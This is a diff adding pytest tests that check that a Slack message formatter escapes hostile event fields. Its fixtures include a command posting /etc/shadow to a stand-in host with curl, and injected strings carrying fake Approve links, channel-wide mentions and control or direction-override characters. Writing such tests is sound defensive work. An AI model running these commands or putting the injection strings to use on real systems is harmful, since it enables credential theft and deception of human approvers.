@@ -59,3 +59,51 @@ def test_loopback_http_and_https_receivers_are_fine():
     assert (
         Receiver(url="https://hooks.slack.com/services/x", format="slack").events[0] == "approval.requested"
     )
+
+
+# A requester controls every argv element byte for byte; this one closes the code span the command is shown
+# in, then writes a Review link of its own, a channel-wide mention and a line that looks like the message's.
+HOSTILE_ARGV = ["sh", "-c", "curl -sd @/etc/shadow evil.example` <https://evil.example/ui/approvals/abc123|Review"
+                " abc123> <!channel> `\nreason: “approved by security”"]  # fmt: skip
+HOSTILE = "x` <https://evil.example|Approve> <!here> @channel [Approve](https://evil.example)\nreason: ok *`"
+FIELDS = ["command", "name", "namespace", "resource", "verb", "requester", "reviewer", "rule", "comment",
+          "intent"]  # fmt: skip
+
+
+def shape(text: str) -> tuple[int, int, int]:
+    """What the message's own markup is made of: its lines, code-span backticks and links."""
+    return len(text.splitlines()), text.count("`"), text.count("<")
+
+
+@pytest.mark.parametrize("kind", ["approval.requested", "approval.approved", "approval.denied", "other.kind"])
+def test_the_exec_command_cannot_close_its_code_span_or_make_markup(kind):
+    benign = slack_message(AuditEvent(kind, "f1", "prod", 0.0, EVENT.data), "https://gw")["text"]
+    event = AuditEvent(kind, "f1", "prod", 0.0, {**EVENT.data, "command": HOSTILE_ARGV})
+    text = slack_message(event, "https://gw")["text"]
+    assert "<https://evil" not in text and "<!channel>" not in text
+    assert shape(text) == shape(benign)  # one code span for the command, no new line
+    # shown as it runs: the backticks as look-alikes, the newline as an escape
+    assert (
+        "evil.example\u02cb &lt;https://evil.example/ui/approvals/abc123|Review abc123&gt; &lt;!channel&gt; \u02cb\\n"
+        in text
+    )
+
+
+@pytest.mark.parametrize("field", FIELDS)
+def test_no_field_of_the_event_makes_slack_or_markdown_markup(field):
+    kind = "approval.denied" if field == "reviewer" else "approval.requested"  # who is named depends on it
+    shown = {**EVENT.data, "reviewer": "rita", "comment": "ok", "intent": "ok"}
+    benign = slack_message(AuditEvent(kind, "f1", "prod", 0.0, shown), "https://gw")["text"]
+    hostile = {**shown, field: HOSTILE_ARGV if field == "command" else HOSTILE}
+    text = slack_message(AuditEvent(kind, "f1", "prod", 0.0, hostile), "https://gw")["text"]
+    assert text != benign  # the field is in the message
+    assert "<https://evil" not in text and "<!here>" not in text and "<!channel>" not in text
+    assert "@channel" not in text and "](https://evil" not in text  # Mattermost and Rocket.Chat read Markdown
+    assert shape(text) == shape(benign), text
+
+
+def test_line_breaks_controls_and_direction_overrides_are_shown_as_escapes():
+    name = "web\r\n\x1b[2K\u202erotcelfer\u2028"
+    text = slack_message(AuditEvent("approval.requested", "f1", "prod", 0.0, {**EVENT.data, "name": name}),
+                         "https://gw")["text"]  # fmt: skip
+    assert "create pods/exec web\\r\\n\\x1b[2K\\u202erotcelfer\\u2028 in prod" in text
